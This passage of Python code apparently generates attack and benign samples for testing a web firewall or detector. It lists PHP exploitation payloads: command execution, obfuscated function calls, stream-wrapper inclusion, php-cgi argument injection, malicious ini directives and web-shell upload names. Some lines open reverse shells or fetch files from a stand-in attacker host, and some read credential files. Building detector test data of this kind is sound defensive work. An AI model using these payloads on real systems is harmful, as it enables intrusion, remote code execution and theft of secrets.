    "<?php declare(strict_types=1); passthru('id');",
]
# php-function-call: command and code execution functions, PHP 5-8 on Linux
FUNC_CALL: list[Entry] = [
    "system('cat /etc/passwd');",
    "exec('whoami',$o);print_r($o);",
    "passthru('ls -la /var/www');",
    "shell_exec('uname -a')",
    "popen('id','r');",
    "proc_open('id',[1=>['pipe','w']],$p);echo stream_get_contents($p[1]);",
    "proc_open(['id'],[],$p);",
    "pcntl_exec('/bin/sh',['-c','id']);",
    "eval('system(\"id\");');",
    "call_user_func('system','id');",
    "array_map('system',['id']);",
    "array_filter(['id'],'system');",
    "register_shutdown_function('system','id');",
    "ob_start('system');echo 'id';ob_end_flush();",
    "(new ReflectionFunction('system'))->invoke('id');",
    "Closure::fromCallable('system')('id');",
    "FFI::cdef('int system(const char *);')->system('id');",
    "putenv('LD_PRELOAD=/tmp/x.so');mail('a@example.org','b','c');",
    "mail('a@example.org','x','y','','-X/var/www/html/s.php -OQueueDirectory=/tmp');",
    "imap_open('{x -oProxyCommand=echo\\tZWNobyAxCg==|base64\\t-d|sh}a','','');",
    "shell_exec('/bin/busybox nc 10.0.0.1 4444 -e /bin/sh');",
]
# php-function-call: PHP 5 only (assert strings, /e modifier, create_function, mb_ereg_replace 'e')
FUNC_PHP5: list[Entry] = [
    "assert('system(\"id\")');",
    "assert(base64_decode('" + _b64("system('id')") + "'));",
    "create_function('','system(\"id\");')",
    "create_function('$a','return 1;}system(\"id\");/*')",
    "preg_replace('/.*/e','system(\"id\")','x');",
    "preg_replace(\"/x/e\",$_GET['r'],\"x\");",
    "mb_ereg_replace('.*','system(\"id\")','x','e');",
    "eval(gzinflate(base64_decode('" + _deflate_b64("system($_GET['c']);") + "')));",
]
# php-function-call: Windows hosts (cmd.exe, PowerShell 5, IIS paths)
FUNC_WIN: list[Entry] = [
    "system('powershell -c Get-Process');",
    "exec('cmd /c dir C:\\\\inetpub\\\\wwwroot');",
    "passthru('type C:\\\\Windows\\\\win.ini');",
    "shell_exec('certutil -urlcache -f http://attacker.example/nc.exe C:\\\\Windows\\\\Temp\\\\nc.exe');",
]
# php-variable-functions: string callables and variable variables (PHP 5 and 7)
VARFUNC: list[Entry] = [
    "$f='sys'.'tem';$f('id');",
    "$_GET['f']($_GET['a']);",
    "$a='assert';$a($_POST['x']);",
    "$f=str_rot13('flfgrz');$f('id');",
    "$f=strrev('metsys');$f('id');",
    "$f=base64_decode('c3lzdGVt');$f('id');",
    "$f=hex2bin('73797374656d');$f('id');",
    "$f=\"\\x73\\x79\\x73\\x74\\x65\\x6d\";$f('id');",
    "$f=\"\\163\\171\\163\\164\\145\\155\";$f('id');",
    "array_map($_GET['f'],[$_GET['a']]);",
    "call_user_func_array($_REQUEST['f'],$_REQUEST['a']);",
    "$f = 'ex'.'ec'; echo $f('whoami');",
    "$f=$_COOKIE['f'];$f($_COOKIE['a']);",
    "@${_GET}[a](${_GET}[b]);",
    "$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');"
    "$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']');$___=$$__;$_($___[_]);",
]
# php-variable-functions: PHP 7+ uniform variable syntax, \u{} escapes, NOT strings, array callables; PHP 8.1
VARFUNC_7: list[Entry] = [
    "('sy'.'stem')('id');",
    "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id');",
    "$f=\"\\u{73}ystem\";$f('id');",
    "(~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\")('id');",
    "implode(['sy','st','em'])('id');",
    "[$_GET[0]][0]($_GET[1]);",
    "(function_exists('system')?'system':'passthru')('id');",
    "${\"_POST\"}['c']('id');",
    "$f=system(...);$f('id');",
    "[new ReflectionFunction('exec'),'invoke']('id');",
]
# php-wrappers: php:// streams (filters, input, fd) on PHP 5-8
WRAP_PHP: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://filter/convert.iconv.UTF-8.UTF-16LE/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/wp-config.php",
    "php://filter/read=convert.quoted-printable-encode/resource=/proc/self/environ",
    "php://filter/resource=http://attacker.example/shell.txt",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.base64-decode/resource=php://temp",
    "php://filter/string.strip_tags/resource=data://text/plain,<b>x</b>",
    "php://input",
    "php://fd/0",
    "php://stdin",
    "PHP://filter/convert.base64-encode/resource=../../../../etc/passwd",
]
# php-wrappers: data://, phar://, expect://, zip://, glob://, compress.*, ssh2.*, rar:// (Linux paths)
WRAP_OTHER: list[Entry] = [
    "data://text/plain;base64," + _b64("<?php system($_GET['c']); ?>"),
    "data:text/plain,<?php system('id');?>",
    "phar:///var/www/uploads/avatar.jpg/x",
    "phar://./uploads/evil.phar/shell.php",
    "expect://id",
    "expect://ls -la /",
    "zip:///var/www/uploads/a.zip#shell.php",
    "glob:///var/www/html/*.php",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://phar:///tmp/x.phar",
    "ssh2.exec://user:pass@127.0.0.1:22/id",
    "rar:///var/www/uploads/a.rar#shell.php",
]
# php-wrappers: Windows (XAMPP/IIS) and macOS (MAMP) paths behind the same wrappers
WRAP_OS: list[Entry] = [
    "zip://C:\\xampp\\htdocs\\uploads\\a.zip%23shell.php",
    "phar://C:/xampp/tmp/php1A2B.tmp/a",
    "php://filter/convert.base64-encode/resource=C:\\inetpub\\wwwroot\\web.config",
    "glob://C:/inetpub/wwwroot/*",
    "file:///C:/Windows/win.ini",
    "php://filter/convert.base64-encode/resource=/Applications/MAMP/htdocs/wp-config.php",
]
# php-object-injection: serialized O:/a:/C: payloads for framework gadget chains (PHP 5-8) and plain objects
OBJECTS: list[Entry] = [
    SER_GUZZLE_FN,
    SER_LARAVEL_FAKER,
    SER_LARAVEL_DISPATCHER,
    SER_MONOLOG,
    SER_YII,
    SER_GUZZLE_FILE,
    SER_GUZZLE_FILE_WIN,
    SER_THINKPHP_WIN,
    SER_JOOMLA,
    SER_WP_FILTERED,
    SER_ARRAYOBJECT,
    SER_SPLSTORAGE,
    SER_ADMIN,
    SER_AUTH_TRUE,
    SER_SWIFT,
    SER_IN_ARRAY,
    SER_DOCTRINE_WIN,
    SER_PHPGGC_B64,
    SER_MONOLOG_B64,
]
# php-object-injection: unserialize() parser dialects (PHP 5 "+" lengths, __wakeup count bypass, S: escapes,
# R: references for use-after-free)
OBJECTS_PARSER: list[Entry] = [
    SER_PLUS,
    SER_WAKEUP,
    SER_ESCAPED_S,
    SER_REF_UAF,
    'a:1:{i:0;O:+8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}}',
]
# php-config-directives: php-cgi argument injection (CVE-2012-1823; CVE-2024-4577 soft hyphen on Windows)
CGI_ARGS: list[Entry] = [
    ("-d allow_url_include=1 -d auto_prepend_file=php://input", "query-string", "rs-query-string"),
    ("-d cgi.force_redirect=0 -d cgi.redirect_status_env=0 -d auto_prepend_file=php://input",
     "query-string", "rs-query-string"),
    ("\xadd allow_url_include=1 \xadd auto_prepend_file=php://input", "query-string", "rs-query-string"),
    ("-d safe_mode=Off -d disable_functions= -d auto_prepend_file=/proc/self/environ",
     "query-string", "rs-query-string"),
    ("-d error_log=/var/www/html/e.php -d display_errors=0 -d log_errors=1", "query-string", "rs-query-string"),
    ("-d extension=/tmp/evil.so", "query-string", "rs-query-string"),
    ("-d zend_extension=C:\\Windows\\Temp\\x.dll -d allow_url_fopen=1", "query-string", "rs-query-string"),
]
# php-config-directives: .user.ini (php-fpm/CGI), .htaccess (mod_php), PHP_VALUE (php-fpm FastCGI), ini_set
INI_FILES: list[Entry] = [
    "auto_prepend_file=/var/www/uploads/shell.gif",
    "auto_append_file=\"php://filter/convert.base64-decode/resource=x.gif\"",
    "auto_prepend_file=data://text/plain;base64," + _b64("<?php phpinfo();?>"),
    "php_value auto_prepend_file \"/tmp/sess_abc123\"",
    "php_value auto_append_file php://input",
    "AddType application/x-httpd-php .jpg",
    "php_flag engine on\nphp_flag register_globals on",
    "PHP_VALUE\nauto_prepend_file=php://input\nallow_url_include=On",
    "PHP_ADMIN_VALUE=allow_url_include=On",
    "ini_set('open_basedir','..');chdir('..');chdir('..');ini_set('open_basedir','/');",
    "ini_set('display_errors','1');ini_set('include_path','/tmp');",
    "sendmail_path=/tmp/x.sh",
    "mail.log=/var/www/html/m.php",
    "allow_url_include=On\nauto_prepend_file=http://attacker.example/s.txt",
    "disable_functions=\nopen_basedir=",
    "auto_prepend_file=C:\\xampp\\tmp\\php4F2.tmp",
    "session.upload_progress.cleanup=0\nsession.auto_start=1",
    "php_admin_value open_basedir none",
]
# superglobals: code that reads $_GET/$_POST/$_REQUEST/$_COOKIE/$_SERVER/$_FILES/$_ENV/$_SESSION/$GLOBALS
# (PHP 5-8) and the PHP 4/5.3 long arrays ($HTTP_*_VARS, $HTTP_RAW_POST_DATA until 5.6)
SUPERGLOBALS: list[Entry] = [
    "@eval($_POST['pass']);",
    "system($_GET['cmd']);",
    "echo $_SERVER['DOCUMENT_ROOT'];",
    "${${eval($_POST[x])}}",
    "{${phpinfo()}}",
    "${@print(md5(1))}",
    "$GLOBALS['_POST']['a']($GLOBALS['_POST']['b']);",
    "print_r($_ENV);",
    "var_dump($_SESSION);",
    "eval($HTTP_RAW_POST_DATA);",
    "eval($HTTP_GET_VARS['c']);",
    "assert($HTTP_POST_VARS['a']);",
    "move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name']);",
    "assert($_COOKIE['a']);",
    "${'_REQ'.'UEST'}[0](${'_REQ'.'UEST'}[1]);",
    "extract($_GET);$cmd($arg);",
    "parse_str($_SERVER['QUERY_STRING']);eval($code);",
    "@$_GET[a](@$_GET[b]);",
    "\"{${system($_GET['c'])}}\"",
    "<?php system($_SERVER['HTTP_X_CMD']); ?>",
]
# superglobals: overwriting them through parse_str()/extract()/register_globals (PHP <= 5.3) as parameters
SUPERGLOBAL_OVERWRITE: list[Entry] = [
    ("GLOBALS[_SERVER][REMOTE_ADDR]=127.0.0.1", "param-name", "rs-param-name"),
    ("_SESSION[role]=admin", "param-name", "rs-param-name"),
    ("_SERVER[HTTP_X_FORWARDED_FOR]=127.0.0.1", "param-name", "rs-param-name"),
    ("_COOKIE[PHPSESSID]=attackerfixed", "param-name", "rs-param-name"),
    ("GLOBALS[_GET][cmd]=id", "param-name", "rs-param-name"),
    ("_ENV[LD_PRELOAD]=/tmp/x.so", "param-name", "rs-param-name"),
]
UPLOAD_BODY = "GIF89a\n"
# php-file-upload: names Apache mod_php/php-fpm map to PHP (Linux), by handler regex and AddHandler
UPLOAD_LINUX: list[Entry] = [
    ("shell.php", "multipart-filename", "rs-multipart-filename"),
    ("shell.php5", "multipart-filename", "rs-multipart-filename"),
    ("shell.php7", "multipart-filename", "rs-multipart-filename"),
    ("shell.phtml", "multipart-filename", "rs-multipart-filename"),
    ("shell.phar", "multipart-filename", "rs-multipart-filename"),
    ("shell.pht", "multipart-filename", "rs-multipart-filename"),
    ("shell.phps", "multipart-filename", "rs-multipart-filename"),
    ("shell.php3", "multipart-filename", "rs-multipart-filename"),
    ("shell.php4", "multipart-filename", "rs-multipart-filename"),
    ("shell.pgif", "multipart-filename", "rs-multipart-filename"),
    ("shell.inc", "multipart-filename", "rs-multipart-filename"),
    ("shell.php.jpg", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jpg.phtml", "multipart-filename", "rs-multipart-filename"),
    ("shell.PhP", "multipart-filename", "rs-multipart-filename"),
    ("shell.pHp5", "multipart-filename", "rs-multipart-filename"),
    (".htaccess", "multipart-filename", "rs-multipart-filename"),
    (".user.ini", "multipart-filename", "rs-multipart-filename"),
    ("../../var/www/html/shell.php", "multipart-filename", "rs-multipart-filename"),
    ("filename*=UTF-8''shell.php", "multipart-filename", "rs-multipart-filename"),
    ("image.gif.phar", "multipart-filename", "rs-multipart-filename"),
]
# php-file-upload: PHP < 5.3.4 NUL truncation, Windows/IIS name normalisation (trailing dot/space, NTFS ::$DATA,
# IIS 6 semicolon), Windows traversal
UPLOAD_OS: list[Entry] = [
    ("shell.php%00.jpg", "multipart-filename", "rs-multipart-filename"),
    ("shell.php\x00.png", "multipart-filename", "rs-multipart-filename"),
    ("shell.php.", "multipart-filename", "rs-multipart-filename"),
    ("shell.php ", "multipart-filename", "rs-multipart-filename"),
    ("shell.php::$DATA", "multipart-filename", "rs-multipart-filename"),
    ("shell.php;.jpg", "multipart-filename", "rs-multipart-filename"),
    ("shell.php....", "multipart-filename", "rs-multipart-filename"),
    ("..\\..\\inetpub\\wwwroot\\shell.php", "multipart-filename", "rs-multipart-filename"),
]
# php-high-risk-function-names: recon, file, network and obfuscation functions (PHP 5-8; dl() until 5.2)
HIGH_RISK: list[Entry] = [
    "phpinfo()",
    "print_r(scandir('/'))",
    "var_dump(file_get_contents('/etc/passwd'))",
    "file_put_contents('x.php',base64_decode('" + _b64("<?php system($_GET[0]);") + "'))",
    "fsockopen('attacker.example',4444)",
    "highlight_file('index.php')",
    "show_source('config.php')",
    "readfile('/etc/shadow')",
    "posix_getpwuid(posix_geteuid())",
    "php_uname()",
    "ini_get_all()",
    "get_defined_vars()",
    "gzuncompress(base64_decode($_POST['z']))",
    "copy('http://attacker.example/s.txt','s.php')",
    "symlink('/','root')",
    "chmod('s.php',0777)",
    "unlink('.htaccess')",
    "fopen('s.php','w')",
    "dl('evil.so')",
    "posix_kill(posix_getpid(),9)",
    "error_log('<?php system($_GET[0]);?>',3,'/var/www/html/e.php')",
    "opcache_get_status()",
    "apache_get_modules()",
    "stream_socket_client('tcp://attacker.example:4444')",
    "get_current_user()",
    "readfile('C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts')",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBINJ_HTML5 + LIBINJ_OLD),
    ("xss", "script-tag", SCRIPT_HTML5 + SCRIPT_OLD),
    ("xss", "event-handler", EVENT_MODERN + EVENT_OLD),
    ("xss", "attribute-vector", ATTR_MODERN + ATTR_OLD),
    ("xss", "javascript-uri", JS_URI),
    ("xss", "html-injection", HTML_MODERN + HTML_OLD),
    ("xss", "svg-mathml", SVG + SVG_XML + MATHML),
    ("xss", "css-expression", CSS_IE + CSS_OTHER + CSS_MODERN),
    ("xss", "template-literal-dom-sink", JS_CONTEXT + DOM_SINK),
    ("xss", "ie-filter-style", IE_ONLY + IE_NETSCAPE),
    ("xss", "encoded-entity", ENC_ENTITY + ENC_CHARSET),
    ("xss", "angular-vue-client-template", ANGULAR + VUE_ETC),
    ("php", "php-open-tag", OPEN_TAGS + OPEN_TAGS_WIN_NEW),
    ("php", "php-function-call", FUNC_CALL + FUNC_PHP5 + FUNC_WIN),
    ("php", "php-variable-functions", VARFUNC + VARFUNC_7),
    ("php", "php-wrappers", WRAP_PHP + WRAP_OTHER + WRAP_OS),
    ("php", "php-object-injection", OBJECTS + OBJECTS_PARSER),
    ("php", "php-config-directives", CGI_ARGS + INI_FILES),
    ("php", "superglobals", SUPERGLOBALS + SUPERGLOBAL_OVERWRITE),
    ("php", "php-file-upload", UPLOAD_LINUX + UPLOAD_OS),
    ("php", "php-high-risk-function-names", HIGH_RISK),
]
# parameter overwrites written as `name=value`, sent unquoted where they name the place
RAW_KV_SUBS = {"superglobals"}

# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["q", "name", "bio", "website", "message", "filter", "redirect", "title", "comment"]
    boundary = "----WebKitFormBoundaryq3HbQ1XcLp9sVf2T"
    upload = UPLOAD_BODY
    file_type = "image/gif"
    raw_places = ("param-name", "rs-param-name")
    raw_tail = True

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and sub in RAW_KV_SUBS and "=" in payload

    def fits(self, place: str, v: str) -> bool:
        return len(v) < 400 if place == "path" else super().fits(place, v)   # the path: a short one

    def xml_body(self, value: str, root: str, name: str) -> str:
        if value.startswith("<?xml"):
            return value   # the payload is the document (a standalone SVG)
        return super().xml_body(value, root, name)

    def _p_query_string(self, p: Put) -> Record:
        return _get("/api/users?" + _argv_query(p.v))

    def _p_rs_query_string(self, p: Put) -> Record:
        return request("GET", ("/index.php" if p.path in ("/", "/get", "/search") else p.path) + "?" + _argv_query(p.v))


SET = _Set()


def _argv_query(value: str) -> str:
    """A bare query string php-cgi reads as argv (no `=` outside the escapes; bytes as latin-1 when they fit)."""
    latin = all(ord(ch) < 256 for ch in value)
    return urllib.parse.quote_plus(value.encode("latin-1") if latin else value.encode(), safe=":/")


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same product names, keywords and syntax, typed innocently
CHAT = [
    # browsers, markup and front-end frameworks
    "anyone else seeing the SVG logo render blurry in Safari 17? looks fine in Chrome",
    "Angular 17 migration: the settings page can drop zone.js, the rest waits until next quarter",
    "Vue 3.4 with script setup is so much nicer than the options API, porting the dashboard next sprint",
    "IE 11 support is officially gone from the admin panel, thanks everyone who tested",
    "the iframe on the status page doesn't resize on mobile, any ideas?",
    "MathML works in Chrome 109+ now, so the formulas page might not need MathJax anymore",
    "the onload handler in our analytics snippet fires twice after a route change in the SPA",
    "please don't use innerHTML for user names in the new widget, textContent is enough",
    "CSP is report-only on staging: script-src 'self' plus the CDN for now",
    "the button's formaction overrides the form action, that's why the export posted to the wrong url",
    "help links should open with target=_blank and rel=noopener",
    "a few kiosk users still show up as Trident/7.0 in the browser stats",
    "Gmail strips the style block from the email template, the inliner has to run first",
    "the base href in the docs site broke relative images after the move to /docs/",
    "the meta refresh on the old landing page sends people to the new domain, keep it until Q4",
    "vue's v-if is the ng-if equivalent, v-show if you only want to toggle display",
    "template literals in the i18n helper make the strings hard to extract for translators",
    "AT&T shows up as AT&amp;T in the export, we escape twice somewhere",
    "Alpine.js for the small toggles on the marketing pages, no build step needed",
    "htmx on the search results feels snappy with hx-trigger=\"keyup changed delay:300ms\"",
    "the knockout bindings on the legacy billing page need a rewrite some day",
    "double curly braces show up raw on the page when the Vue bundle fails to load",
    "the Angular template binds user.displayName, interpolation escapes it by default",
    "javascript: links are stripped by our markdown renderer, use buttons for actions",
    "user bios are rendered as plain text, no HTML allowed",
    "can someone review the PR for the SVG sanitizer config? it only touches the allow-list",
    "the mobile app uses WKWebView on iOS and Android System WebView",
    "the Chrome 124 update changed how the date input looks in the filters",
    "finance runs Firefox ESR 115, please test the invoice page there",
    "Safari on iOS 17 blocks third-party cookies, so the embedded iframe login fails",
    "data URIs for the small icons in the email template, Outlook blocks remote images",
    "%20 instead of spaces in the CSV links, Excel doesn't care",
    "the tab character in the TSV export broke the import script",
    "the <details> element is great for the FAQ, no JS needed",
    # PHP and its ecosystem
    "PHP 8.3 is on staging, readonly classes and typed class constants work fine",
    "composer.lock drifted again, please run composer install and not composer update",
    "php-fpm slow log shows the PDF export taking 9 seconds",
    "opcache was disabled on the worker image, that explains the CPU graph",
    "phar builds of the CLI tool are on the releases page now",
    "the WordPress marketing site still runs PHP 7.4, upgrade ticket filed",
    "Laravel queue worker restarted after the deploy, Horizon looks healthy",
    "Symfony 7 upgrade broke one form type, fixed in the branch",
    "the session serializer is JSON now, not PHP's serialize format",
    "phpunit 11 dropped the docblock annotations, use attributes instead",
    "the upload allow-list is png, jpg, pdf and csv; anything else gets a 415",
    "someone emailed a .phtml file to the support inbox, the scanner quarantined it",
    "security asked us to confirm allow_url_include is off on the legacy boxes; it is",
    "auto_prepend_file was how the old APM agent hooked in, removed with the new agent",
    "the .user.ini on the shared host sets upload_max_filesize to 64M",
    "php.ini memory_limit is 512M for the import worker only",
    "display_errors off in prod, log_errors on, as always",
    "the $_SERVER['HTTPS'] check failed behind the proxy, we trust X-Forwarded-Proto now",
    "the old code reads superglobals directly, the new code goes through the Request object",
    "the CLI importer reads php://stdin so it works with gzip -dc piped in",
    "exec summary for the pen test: two mediums, no highs",
    "the system clock on worker 3 drifted, chrony restarted",
    "the eval period for the new APM vendor ends on Friday",
    "the serialized column in the settings table is PHP's format, we migrate it to JSON in the rewrite",
    "create_function is gone in PHP 8, the old plugin needs a closure instead",
    "the /e modifier of preg_replace was removed in PHP 7, the legacy parser used it",
    "glob pattern for the log rotation is /var/log/app/*.log",
    "the zip export of invoices includes a manifest.csv now",
    "expect in our test suite is jest's, not the PHP extension",
    "proc_open is only used by the composer scripts, not by the app",
    "Windows build agents run PowerShell 7, the mac ones zsh",
    "the XAMPP install on the old reporting PC is finally gone",
    "the php-cgi binary isn't installed anywhere, we only ship php-fpm",
    "does anyone know if the GIF89a header check in the avatar upload is still needed?",
]
SEARCHES = [
    "angular", "vue", "iframe", "svg", "script", "onload", "style guide", "mathml", "template", "expression",
    "behavior", "entity", "encode", "Internet Explorer", "Edge", "Chrome", "Safari", "Firefox", "alpine", "htmx",
    "php", "phar", "laravel", "symfony", "wordpress", "upload", "php.ini", "serialize", "system", "exec",
    "eval", "assert", "glob", "data", "expect", "zip", "filter", "input", "object", "config",
    "session", "cookie", "globals", "server", "request", "Ángel Ruiz", "O'Connor",
]
PROSE = [
    "Customer says the embedded iframe on their intranet is blank since the Chrome update.",
    "Refund approved for order 4411; the SVG invoice was rendered wrong in Safari.",
    "The PHP 8.3 upgrade of the billing service is scheduled for Tuesday 06:00 UTC.",
    "User asked why their bio shows <b> literally. Explained that HTML is not rendered.",
    "Ticket 5521: the Angular admin app logs out after 15 minutes of inactivity, as designed.",
    "The Vue storefront is cached for 5 minutes at the CDN.",
    "Support macro updated: uploads must be PDF, PNG or JPG, up to 10 MB.",
    "Customer reports the .phar download from the releases page is flagged by their antivirus.",
    "Script for the onboarding call: greet, confirm the plan, walk through settings.",
    "The style guide now says 'sign in', not 'log in'.",
    "Expression of interest from Acme for the enterprise plan, follow up next week.",
    "Data export request for user 8812 completed and sent by email.",
    "The WordPress blog moved to the new host; DNS TTL is 300.",
    "Symfony and Laravel teams share the same CI runners from Monday.",
    "Customer on Windows Server 2019 with IIS asks whether we support their reverse proxy.",
    "Reminder: system maintenance on Saturday from 02:00 to 04:00.",
    "Object storage costs went down 12% after the lifecycle rule.",
    "The config for the EU region is identical to the US one except the bucket name.",
    "Session timeout complaints dropped after we raised it to 30 minutes.",
    "Internet Explorer users are redirected to a page that lists supported browsers.",
    "Asked the customer to clear cookies and retry the login in Firefox.",
    "The encoding of the CSV export is UTF-8 with BOM so Excel opens it correctly.",
    "Filter by region is broken on the reports page, fix in review.",
    "Upload of a 12 MB image failed with 413, which is expected.",
    "Glob patterns in the backup job exclude node_modules and vendor.",
    "The template for the welcome email has a new footer.",
    "Customer asked whether the input fields accept emoji. They do.",
    "Mobile Safari shows the date picker in the wrong language; reported upstream.",
    "Edge users get the same experience as Chrome users now.",
    "Exec team wants the quarterly numbers by Thursday.",
    "The zip code field accepts letters for UK and Canadian postcodes.",
    "Serial number of the replacement router: SN-2024-77812.",
    "Server room temperature alarm was a false positive.",
    "Request from legal: keep deleted accounts' invoices for 10 years.",
    "The MathML formulas in the help center render correctly in all supported browsers.",
]
URLS = [
    "https://www.php.net/manual/en/function.system.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/ini.core.php#ini.auto-prepend-file",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/language.variables.superglobals.php",
    "https://www.php.net/manual/en/features.file-upload.php",
    "https://www.php.net/releases/8.3/en.php",
    "https://developer.mozilla.org/en-US/docs/Web/SVG/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/iframe",
    "https://developer.mozilla.org/en-US/docs/Web/MathML",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML#security_considerations",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/button#formaction",
    "https://angular.dev/best-practices/security",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/PHP_Configuration_Cheat_Sheet.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/File_Upload_Cheat_Sheet.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2024-4577",
    "https://nvd.nist.gov/vuln/detail/CVE-2012-1823",
    "https://github.com/advisories?query=ecosystem%3Acomposer",
    "https://learn.microsoft.com/en-us/lifecycle/products/internet-explorer-11",
    "https://alpinejs.dev/directives/data",
    "https://htmx.org/attributes/hx-trigger/",
    "https://laravel.com/docs/11.x/encryption",
]
PROFILES = [
    ("Angela Scripps", "14 Harbour Rd, Portsmouth"),
    ("Vue Nguyen", "22 Le Loi, Ho Chi Minh City"),
    ("Svelte Studio", "Kanalstraat 5, Utrecht"),
    ("Phar Lap Racing Club", "Flemington Rd 1, Melbourne"),
    ("Marquee Events Ltd", "Theatre Row 3, London"),
    ("Frame & Glass Co", "Window St 9, Leeds"),
    ("Object Design AG", "Seestrasse 20, Zürich"),
    ("Expect More Coaching", "Maple Ave 12, Toronto"),
    ("Glob Logistics", "Dock Rd 4, Antwerp"),
    ("Zip Couriers", "Unit 7, Trading Est, Cork"),
    ("Ingrid Style", "Storgatan 8, Uppsala"),
    ("Ed Expression", "Main St 40, Galway"),
    ("Behavior Health Clinic", "Elm St 3, Denver"),
    ("Entity Legal LLP", "Chancery Ln 11, London"),
    ("Chrome Auto Body", "Route 9, Albany"),
    ("Safari Tours Kenya", "Moi Ave 100, Nairobi"),
    ("Firefox Outdoor", "Birch Rd 2, Bergen"),
    ("Edge Fitness", "Broadway 500, New York"),
    ("Alpine Dairy", "Dorfstrasse 1, Grindelwald"),
    ("Laravel Bakery", "Rue Laval 6, Montréal"),
    ("Symfony Orchestra Society", "Concert Sq 2, Liverpool"),
    ("Serial Entrepreneurs Club", "Market St 77, San Francisco"),
    ("Session Musicians Guild", "Abbey Rd 3, London"),
    ("Cookie Jar Bakery", "Sugar Ln 8, Hershey, PA"),
    ("Global Server Solutions", "Data Park 2, Dublin"),
    ("Input Output Labs", "Science Park 9, Cambridge"),
    ("Config Partners", "Via Torino 15, Milano"),
    ("Filter Coffee House", "Kaffeegasse 4, Wien"),
    ("Eval Consulting", "Rua Augusta 30, Lisboa"),
    ("Assert Quality Ltd", "Mill Ln 6, Manchester"),
]
UPLOAD_NAMES = [
    "phpinfo-screenshot.png", "php-8.3-migration-notes.pdf", "svg-icons.zip", "angular-upgrade-plan.docx",
    "logo.svg", "script-outline.docx", "vue-components.pdf", "iframe-embed-guide.pdf", "style-guide-2024.pdf",
    "wordpress-backup-notes.txt", "laravel-course.pdf", "symfony-cheatsheet.pdf", "config-export.csv",
    "session-recording.mp4", "serial-numbers.xlsx", "filter-presets.json", "expression-of-interest.pdf",
    "template-invoice.docx", "cookie-policy.pdf", "server-inventory.xlsx", "glob-patterns.txt",
    "object-model.drawio.png", "data-import.csv", "input-validation-checklist.pdf", "alpine-hike.jpg",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"),
    ("User-Agent", "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.16"),
    ("User-Agent", "GuzzleHttp/7"),
    ("User-Agent", "WordPress/6.5.2; https://blog.example.com"),
    ("User-Agent", "Symfony HttpClient (Curl)"),
    ("User-Agent", "PHP/8.3.6"),
    ("User-Agent", "Composer/2.7.2 (Linux; 6.1.0-18-amd64; PHP 8.3.6; cURL 7.88.1)"),
    ("Referer", "https://app.example.com/admin/users?page=3&sort=created_at"),
    ("Referer", "https://www.google.com/search?q=php+unserialize+json+alternative"),
    ("Referer", "https://stackoverflow.com/questions/2222222/vue-v-html-vs-double-curly-braces"),
    ("Referer", "https://www.php.net/manual/en/function.exec.php"),
    ("Referer", "https://developer.mozilla.org/en-US/docs/Web/SVG"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "c3a1e0b2-5d7f-4e8a-9b1c-2f3e4d5a6b7c"),
    ("Accept-Language", "de-CH,de;q=0.9,en;q=0.7"),
    ("Cookie", "session=abc123; theme=light; editor=vue"),
    ("Cookie", "session=abc123; last_search=php%20wrappers; tz=America%2FNew_York"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
